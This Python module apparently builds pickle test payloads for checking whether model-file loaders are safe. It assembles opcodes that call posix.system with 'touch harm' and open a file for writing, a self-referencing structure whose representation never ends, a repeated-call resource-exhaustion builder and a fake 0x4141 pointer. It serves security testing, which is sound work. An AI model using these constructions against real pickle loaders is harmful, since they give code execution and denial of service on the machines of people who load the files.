"""An assembler of pickle opcodes."""

import struct

HARM = 'harm'
"""Name of the file that a successful attack leaves in the current folder."""


def name(module, attribute):
    return f'c{module}\n{attribute}\n'.encode()


def text(value):
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def number(value):
    return b'J' + struct.pack('<i', value)


def items(*values):
    return b'(' + b''.join(values) + b't'


def mapping(**values):
    return b'}(' + b''.join(text(k) + v for k, v in values.items()) + b'u'


def call(function, *args):
    return function + items(*args) + b'R'


def made(kind, state):
    """An object made by ``__new__`` and given a state."""
    return kind + b')\x81' + state + b'b'


def raw(data):
    return call(name('_codecs', 'encode'), text(data.decode('latin1')), text('latin1'))


NONE, TRUE, FALSE = b'N', b'\x88', b'\x89'
HISTORY = name('mmengine.logging.history_buffer', 'HistoryBuffer')
NDARRAY, DTYPE = name('numpy', 'ndarray'), name('numpy', 'dtype')
RECONSTRUCT = name('numpy.core.multiarray', '_reconstruct')
REBUILD = name('torch._utils', '_rebuild_tensor_v2')
STATE = items(number(3), text('<'), NONE, NONE, NONE, number(-1), number(-1), number(0))
OBJECT_POINTERS = raw(struct.pack('<q', 0x4141414141414141))


def dtype(code, state=STATE):
    return call(DTYPE, text(code), FALSE, TRUE) + state + b'b'


def array(shape, kind, data):
    return (
        call(RECONSTRUCT, NDARRAY, items(number(0)), raw(b'b'))
        + items(number(1), items(*map(number, shape)), kind, FALSE, data)
        + b'b'
    )


def storage(count, key='0', kind='FloatStorage'):
    return (
        items(
            text('storage'), name('torch', kind), text(key), text('cpu'), number(count)
        )
        + b'Q'
    )


def tensor(storage_, offset=0, size=(4,), stride=(1,)):
    return call(
        REBUILD,
        storage_,
        number(offset),
        items(*map(number, size)),
        items(*map(number, stride)),
        FALSE,
        call(name('collections', 'OrderedDict')),
    )


# a few bytes whose representation would have no end
ENDLESS = b')' + 40 * b'q\x00h\x00\x86'


def again(function, args, times):
    """The same call many times, of 5 bytes each."""
    return function + b'q\1' + args + b'q\2' + items(*times * [b'h\1h\2R'])


SYSTEM = call(name('posix', 'system'), text(f'touch {HARM}'))
OPEN = call(name('__builtin__', 'open'), text(HARM), text('w'))
